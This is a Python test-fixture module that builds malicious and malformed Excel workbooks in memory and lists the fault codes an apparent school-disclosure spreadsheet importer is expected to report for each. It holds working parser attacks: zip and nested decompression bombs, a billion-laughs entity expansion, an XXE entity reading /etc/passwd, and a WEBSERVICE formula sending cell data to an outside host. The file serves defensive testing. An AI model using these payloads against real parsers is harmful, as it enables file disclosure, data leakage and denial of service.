"""Workbooks that mean harm, or were merely made carelessly; each made in memory.

``python hostile.py NAME`` says what reading one costs.
"""

from __future__ import annotations

import io
import re
import struct
import sys
import zipfile
from collections.abc import Callable, Iterable

from openpyxl import Workbook
from openpyxl.worksheet.worksheet import Worksheet
from workbooks import packed, rezipped, sheet_xml, with_sheet, with_strings

MAIN = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
ROWS = [
    ["一级事项", "二级事项", "公开内容", "公开依据", "公开时限", "公开主体"],
    ["政策文件", "法律", "内容", "《教育法》", "及时公开", "教育局"],
]


def book() -> tuple[Workbook, Worksheet]:
    made = Workbook()
    sheet = made.active
    assert isinstance(sheet, Worksheet)
    sheet.title = "义务教育"
    for row in ROWS:
        sheet.append(row)
    return made, sheet


def good() -> bytes:
    return packed(book()[0])


def _with_rows(more: Iterable[str], merges: str = "") -> bytes:
    raw = good()
    before, after = sheet_xml(raw).split("</sheetData>", 1)
    return with_sheet(raw, "".join((before, *more, "</sheetData>", merges, after)))


def text_file() -> bytes:
    return "一级事项,二级事项\n".encode()


def old_xls() -> bytes:
    return b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600) + "Workbook".encode("utf-16-le")


def encrypted() -> bytes:
    names = "EncryptionInfo".encode("utf-16-le") + "EncryptedPackage".encode("utf-16-le")
    return b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600) + names


def another_zip() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as package:
        package.writestr("word/document.xml", "<w/>")
    return out.getvalue()


def locked_zip() -> bytes:
    raw = bytearray(good())
    at = raw.find(b"PK\x01\x02")
    while at >= 0:
        raw[at + 8] |= 1
        at = raw.find(b"PK\x01\x02", at + 1)
    return bytes(raw)


def truncated() -> bytes:
    return good()[:-400]


def broken_deflate() -> bytes:
    raw = bytearray(good())
    at = raw.find(b"xl/worksheets/sheet1.xml") + 60
    raw[at : at + 40] = bytes(40)
    return bytes(raw)


def bomb() -> bytes:
    return with_sheet(good(), b"<worksheet>" + b" " * (300 * 1024 * 1024))


def nested_bomb() -> bytes:
    """A quine is no danger: nothing but the workbook's parts is opened."""
    inner = bomb()
    return rezipped(good(), xl__embeddings__a_dot_xlsx=inner)


def many_entries() -> bytes:
    out = io.BytesIO(good())
    with zipfile.ZipFile(out, "a") as package:
        for number in range(70_000):
            package.writestr(f"xl/media/{number}", "")
    return out.getvalue()


def entities() -> bytes:
    levels = "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 12))
    doctype = f'<!DOCTYPE x [<!ENTITY a0 "ha">{levels}]>'
    return with_sheet(good(), f"<?xml version='1.0'?>{doctype}<worksheet {MAIN}>&a11;</worksheet>")


def outside_entity() -> bytes:
    doctype = '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>'
    strings = f"<?xml version='1.0'?>{doctype}<sst {MAIN}><si><t>&a;</t></si></sst>"
    return with_strings(good(), strings)


def external_link() -> bytes:
    return rezipped(good(), xl__externalLinks__externalLink1_dot_xml="<externalLink/>")


def macros() -> bytes:
    return rezipped(good(), xl__vbaProject_dot_bin=b"\xd0\xcf")


def formula() -> bytes:
    made, sheet = book()
    sheet["B3"] = "第二项"
    sheet["C3"] = '=WEBSERVICE("http://example.cn/"&A2)'
    return packed(made)


def a_million_empty_rows() -> bytes:
    empty = (f'<row r="{n}" ht="15" customHeight="1"/>' for n in range(3, 1_048_577))
    return _with_rows(empty, '<mergeCells count="1"><mergeCell ref="A2:A3"/></mergeCells>')


def a_million_rows_of_empty_cells() -> bytes:
    cells = "".join(f'<c r="{letter}{{0}}" s="1"/>' for letter in "ABCDEF")
    return _with_rows(f'<row r="{n}">{cells.format(n)}</row>' for n in range(3, 1_048_577))


def far_cell() -> bytes:
    made, sheet = book()
    sheet["XFD1048576"] = "远"
    sheet["ZZ2"] = "宽"
    return packed(made)


def full_rows() -> bytes:
    cell = '<c t="inlineStr"><is><t>{0}</t></is></c>'
    row = "".join(cell.format(text) for text in "甲乙丙丁戊己")
    return _with_rows(f'<row r="{n}">{row}</row>' for n in range(3, 120_000))


def overlapping_merges() -> bytes:
    merges = "".join(f'<mergeCell ref="A2:C{n}"/>' for n in range(3, 15_000))
    return _with_rows((), f"<mergeCells>{merges}</mergeCells>")


def huge_merge() -> bytes:
    return _with_rows((), '<mergeCells><mergeCell ref="D2:ALL1048576"/></mergeCells>')


def half_xml() -> bytes:
    raw = good()
    return with_sheet(raw, sheet_xml(raw)[:-300])


def raw_control() -> bytes:
    raw = good()
    return with_sheet(raw, sheet_xml(raw).replace("<sheetData>", "<sheetData>\x01"))


def control_characters() -> bytes:
    more = '<row r="3"><c r="B3" t="inlineStr"><is><t>第_x0007_二_x202E_项</t></is></c></row>'
    return _with_rows([more])


def long_cell() -> bytes:
    more = f'<row r="3"><c r="B3" t="inlineStr"><is><t>二</t></is></c><c r="C3" t="inlineStr"><is><t>{"长" * 200_000}</t></is></c></row>'
    return _with_rows([more])


def long_tag() -> bytes:
    import random

    noise = random.Random(1).randbytes(3_000_000).hex()
    return with_sheet(good(), f'<worksheet {MAIN}><sheetData a="{noise}"/></worksheet>')


def much_text() -> bytes:
    import random

    noise = random.Random(1).randbytes(12_000).hex()
    shared = f"<sst {MAIN}><si><t>{noise}</t></si></sst>"
    cells = '<c t="s"><v>0</v></c>' * 50
    raw = _with_rows(f'<row r="{n}">{cells}</row>' for n in range(3, 3000))
    return with_strings(raw, shared)


def hidden() -> bytes:
    made, sheet = book()
    sheet.append(["政策文件", "藏起来的一行", "内容", "《教育法》", "及时公开", "教育局"])
    sheet.row_dimensions[3].hidden = True
    sheet.column_dimensions["D"].hidden = True
    other = made.create_sheet("参数")
    other.append(ROWS[0])
    other.sheet_state = "hidden"
    return packed(made)


def date_cell() -> bytes:
    from datetime import date

    made, sheet = book()
    sheet["B3"], sheet["E3"] = "第二项", date(2024, 3, 31)
    return packed(made)


def lying_sizes() -> bytes:
    """The zip declares a small size for what inflates to much."""
    raw = bytearray(with_sheet(good(), b"<worksheet>" + b" " * (50 * 1024 * 1024)))
    at = raw.find(b"PK\x01\x02")
    while at >= 0:
        if raw[at + 46 :].startswith(b"xl/worksheets/sheet1.xml"):
            raw[at + 24 : at + 28] = struct.pack("<I", 1000)
        at = raw.find(b"PK\x01\x02", at + 1)
    return bytes(raw)


def one_part_many_times() -> bytes:
    """A sheet that the workbook names twenty times."""
    made, _ = book()
    for number in range(20):
        made.create_sheet(f"表{number}")
    raw = packed(made)
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(raw)) as old, zipfile.ZipFile(out, "w") as new:
        for entry in old.infolist():
            data = old.read(entry)
            if entry.filename == "xl/_rels/workbook.xml.rels":
                data = re.sub(rb"worksheets/sheet\d+\.xml", b"worksheets/sheet1.xml", data)
            new.writestr(entry, data)
    return out.getvalue()


EXPECTED: dict[Callable[[], bytes], tuple[list[str], int]] = {
    good: ([], 1),
    text_file: (["GK701"], 0),
    old_xls: (["GK701"], 0),
    encrypted: (["GK701"], 0),
    another_zip: (["GK701"], 0),
    locked_zip: (["GK701"], 0),
    truncated: (["GK703"], 0),
    broken_deflate: (["GK703"], 0),
    bomb: (["GK702"], 0),
    nested_bomb: (["GK704"], 1),
    many_entries: (["GK702"], 0),
    entities: (["GK703"], 0),
    outside_entity: (["GK703"], 0),
    external_link: (["GK704"], 1),
    macros: (["GK704"], 1),
    formula: (["GK707", "GK707"], 2),
    a_million_empty_rows: ([], 1),
    a_million_rows_of_empty_cells: (["GK704"], 1),
    far_cell: (["GK704", "GK704"], 1),
    full_rows: (["GK702"], 0),
    overlapping_merges: (["GK704"], 1),
    huge_merge: ([], 1),
    half_xml: (["GK703"], 0),
    raw_control: (["GK703"], 0),
    control_characters: (["GK707", "GK707", "GK707"], 2),
    long_cell: (["GK707", "GK707"], 2),
    long_tag: (["GK702"], 0),
    much_text: (["GK702"], 0),
    hidden: (["GK705", "GK705"], 2),
    date_cell: (["GK707", "GK707"], 2),
    lying_sizes: (["GK703"], 0),
    one_part_many_times: (["GK703"], 0),
}
"""Each with the codes that reading it gives, and how many items."""


def _measured(name: str) -> None:
    import tempfile
    import time
    from pathlib import Path

    from workbooks import taken

    if len(sys.argv) < 3:
        import subprocess

        with tempfile.TemporaryDirectory() as folder:
            made = Path(folder) / "book.xlsx"
            made.write_bytes(next(make for make in EXPECTED if make.__name__ == name)())
            subprocess.run([sys.executable, __file__, name, str(made)], check=True)
        return
    raw = Path(sys.argv[2]).read_bytes()
    start = time.perf_counter()
    intake = taken(raw)
    spent = time.perf_counter() - start
    status = Path("/proc/self/status").read_text()
    peak = int(status.split("VmHWM:")[1].split()[0]) // 1024
    items = sum(len(one.area.items) for one in intake.imported)
    found = [fault.code for fault in intake.faults]
    print(
        f"{name}: {len(raw) / 1e6:.2f} MB, {spent:.2f} s, peak {peak} MB, {items} items, {found[:4]}"
    )


if __name__ == "__main__":
    for one in [sys.argv[1]] if len(sys.argv) > 1 else [make.__name__ for make in EXPECTED]:
        _measured(one)
